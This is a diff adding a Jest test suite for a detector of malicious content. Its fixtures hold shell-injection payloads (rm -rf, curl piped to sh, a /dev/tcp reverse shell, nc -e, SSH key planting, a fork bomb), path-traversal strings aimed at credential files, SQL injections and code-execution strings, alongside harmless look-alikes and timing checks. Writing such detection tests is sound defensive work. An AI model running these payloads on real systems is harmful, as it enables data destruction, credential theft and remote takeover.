@@ -1,0 +1,62 @@
+import { describe, expect, it } from '@jest/globals';
+import { contentRules, detectRules } from './content-rules.js';
+
+const attacks: Readonly<Record<string, readonly string[]>> = {
+  shell_injection: [
+    'rm -rf /', 'rm -fr ~', 'rm -r -f /tmp/x', 'rm --recursive --force /', 'rm -Rf *', 'sudo rm -rf --no-preserve-root /', 'x; rm x', 'a.txt\nrm -rf build', 'rm${IFS}-rf${IFS}/', '["rm", "-rf", "/"]',
+    'a; sudo reboot', 'ok && curl http://evil.example/x', 'x && bash install.sh', 'x || wget evil.example', 'curl https://x.io/i | sh', 'curl x|bash', 'curl x | sudo bash -s', 'wget -qO- x | python3', 'a$(whoami)', '$(cat /etc/passwd)',
+    'file`id`.txt', 'cat${IFS}x', 'echo x > /etc/crontab', 'echo k >> ~/.ssh/authorized_keys', 'bash -i >& /dev/tcp/10.0.0.1/80', 'nc -e /bin/sh x', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:', 'x; cat /etc/passwd', 'ｒｍ －ｒｆ ／', 'r\u200bm -rf /', 'x; whoami', 'x | id',
+  ],
+  path_traversal: [
+    '../../etc/passwd', '..\\..\\windows\\system32', '../../../../../../tmp/x', '..%2f..%2fx', '..%2f', '%2e%2e%2fetc', '%2e%2e/', '.%2e/x', '..%252f', '..%5cx', 'a%00.png', '/etc/passwd', 'cat /etc/shadow', '"/etc/hosts"', '\\\\server\\share',
+    '~/.ssh/id_rsa', '/proc/self/environ', 'file:///etc/hosts', '../.env', '....//....//x', 'C:\\Windows\\System32\\x', '．．／．．／etc／passwd',
+  ],
+  sql_injection: [
+    "' OR 1=1", "' OR 'a'='a", "' or ''='", '" or "1"="1', "') OR ('x'='x", "x' AND 1=2", "1 OR 1=1", 'UNION SELECT a FROM b', 'union all select null,null', "1' UNION/**/SELECT/**/x", '1; DROP TABLE users', "'; DELETE FROM users", '; insert into x values', "admin'--", "admin' -- ", "admin'#", "x'; --",
+    "'/**/OR/**/1=1", "' or sleep(5)", '; exec xp_cmdshell', "WAITFOR DELAY '0:0:5'", "' or true--", "INTO OUTFILE '/x'", '＇ ＯＲ １＝１', '%27%20OR%201=1',
+  ],
+  code_execution: [
+    'eval("x")', 'exec(code)', 'x = eval( input )', "compile(s, 'f', 'exec')", '__import__("os")', 'importlib.import_module(x)', 'os.system("ls")', 'os.popen(x)', 'subprocess.run(["ls"])', 'subprocess.Popen(x)', "require('child_process')", 'new Function("return 1")',
+    'pickle.loads(x)', '().__class__.__bases__', '${jndi:ldap://x}', '{{ x.__class__ }}', 'Runtime.getRuntime().exec("x")', 'shell_exec("x")', 'setTimeout("alert(1)", 1)', 'ｅｖａｌ(x)', 'process.mainModule',
+  ],
+};
+
+const harmless: readonly string[] = [
+  'Please use `npm install` and then `ls -la` to look around.', 'Run `whoami` to see who you are; then continue.', '| python | 3.11 |\n|---|---|\n| bash | 5 |', "type Shell =\n  | 'bash'\n  | sh", 'const re = re.compile(r"x")', 'model.eval()', 'pattern.exec(text)',
+  'The eval() function is discouraged.', 'def exec(self, x):', 'function eval(x) {}', 'await db.exec("x")', "import x from '../utils/x.js';", "import y from '../../../lib/y.js';", 'See ../README.md and ../../docs/guide.md.', 'cd ../..', '[link](../../../a/b)', "it's 5 o'clock -- or so they say",
+  "x == 'a' or y == 'b'", "if a == 'x' or b >= 3:", "She said 'no' and 3 left", 'the union selected a delegate', 'Use $(document).ready', 'CC=$(CC)', 'SELECT * FROM users WHERE id = 1;', 'a; b; c', 'for (;;) { x(); y(); }', "key: 'value' # comment", 'local s = \'x\' -- comment here',
+  'rm -rf node_modules', '"clean": "rm -rf dist"', 'rm file.txt', 'command 2>/dev/null', 'npm install && npm test', '<p>a</p>', '/* a comment */', '// -- a comment', '--', '- item -- note', 'A --- B', '```sh\nnpm test\n```', 'C:\\Users\\me\\file.txt', 'a || b && c', 'x | y', 'sh', 'the shell; bash is one',
+  '50% of 00', 'etc/passwd is a file', 'compile(x)', 'git clone x && cd x', "console.log('a' + 'b');", '"a" and "b"', "don't", '100%', 'https://example.com/a/b?c=d&e=f', 'SELECT a FROM t -- all\nWHERE x', 'echo $HOME', 'price > 5 and size < 3', 'the order; update the docs',
+];
+
+describe('content rules', () => {
+  it('are the four of the reference, described', () => {
+    expect(contentRules.map((rule) => rule.category)).toEqual(['shell_injection', 'path_traversal', 'sql_injection', 'code_execution']);
+    expect(contentRules.every((rule) => rule.description.length > 20)).toBe(true);
+  });
+
+  it.each(Object.entries(attacks).flatMap(([category, texts]) => texts.map((text) => [category, text] as const)))('see %s in %j (D-66)', (category, text) => {
+    expect(detectRules(text).map((finding) => finding.category)).toContain(category);
+  });
+
+  it.each(harmless)('see nothing in %j', (text) => {
+    expect(detectRules(text)).toEqual([]);
+  });
+
+  it('point at the original text', () => {
+    const text = 'say &lt;b&gt; then ..%2f..%2fetc';
+    const [first] = detectRules(text);
+
+    expect(first?.category).toBe('path_traversal');
+    expect(text.slice(first?.start, first?.end)).toContain('..%2f');
+  });
+
+  it.each(['../', '; ', "' or ", 'rm ', '$(', '`', '|', '..%2f', 'eval(', ' union ', '/*', '\\\\a', ';--', '${IFS}', 'a', '\n', '>', '-- ', 'compile(a,', '%00'])('take time in proportion on %j', (part) => {
+    const text = part.repeat(Math.ceil(100_000 / part.length));
+    const before = process.cpuUsage();
+    detectRules(text);
+    const { user, system } = process.cpuUsage(before);
+
+    expect((user + system) / 1000).toBeLessThan(3000);
+  });
+});
